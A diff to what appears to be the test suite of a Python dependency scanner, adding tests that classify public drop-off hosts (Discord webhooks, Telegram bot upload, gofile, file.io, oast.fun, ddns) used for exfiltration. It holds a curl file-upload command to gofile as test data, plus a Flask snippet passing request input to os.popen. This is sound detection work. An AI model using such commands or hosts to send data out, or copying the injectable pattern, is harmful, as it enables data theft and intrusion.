@@ -8,7 +8,7 @@ import pytest
 
 from pydepgate.detect import DETECTORS
 from pydepgate.detect.base import View
-from pydepgate.detect.destinations import classify, parse
+from pydepgate.detect.destinations import classify, drop_in, parse
 from pydepgate.detect.walk import walk
 from pydepgate.source.interpreter import evaluate
 
@@ -163,3 +163,26 @@ def test_words_of_a_web_request_reach_a_shell() -> None:
         "import os\nfrom flask import request\ndef page():\n    return os.popen(request.args.get('q')).read()\n"
     )
     assert "flow.listener-to-process" in found
+
+
+@pytest.mark.parametrize(
+    ("text", "host"),
+    [
+        ("https://discord.com/api/webhooks/0/x", "discord.com"),
+        ("https://api.telegram.org/bot{token}/sendDocument", "api.telegram.org"),
+        ("curl -F file=@x 'https://store1.gofile.io/uploadFile' -s", "store1.gofile.io"),
+        ("? abc.oast.fun 443", "abc.oast.fun"),
+        ("file.io", "file.io"),
+        ("https://{requests.get().json()[data][server]}.gofile.io/uploadFile", "{}.gofile.io"),
+        ("http://203.0.113.7:8080/up", "203.0.113.7"),
+        ("https://somebody.ddns.net/", "somebody.ddns.net"),
+        ("http://127.0.0.1:8000/", ""),
+        ("1.2.3.4", ""),
+        ("https://profile.io/", ""),
+        ("https://api.server.invalid/file.io/x", ""),
+        ("https://raw.githubusercontent.com/o/r/main/x", ""),
+        ("", ""),
+    ],
+)
+def test_where_anybody_can_have_things_sent_to(text: str, host: str) -> None:
+    assert drop_in(text) == host
